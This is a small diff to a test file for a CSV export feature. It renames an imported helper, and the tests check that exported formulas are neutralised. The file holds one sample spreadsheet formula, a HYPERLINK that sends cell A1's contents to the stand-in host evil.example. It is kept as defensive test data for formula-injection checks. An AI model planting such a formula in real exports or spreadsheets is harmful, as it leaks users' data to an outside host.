@@ -13,7 +13,7 @@ import {
 import { parseLossless } from "../../src/shared/json/lossless";
 import { exportSlices } from "../../src/resultsPanel/exportFormats";
 import { exportToFile } from "../../src/resultsPanel/exportWriter";
-import { resultSetFromText } from "../../src/resultsPanel/resultSet";
+import { resultFromText } from "../../src/resultsPanel/resultSet";
 
 const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Open")';
 
@@ -131,7 +131,7 @@ describe("CSV exports neutralise formulas", () => {
     });
 
     it("in the file an export writes, unless the setting turned it off", async () => {
-        const set = await resultSetFromText(response, {
+        const set = await resultFromText(response, {
             title: "t",
             queryText: "SELECT url",
             durationMs: 1,
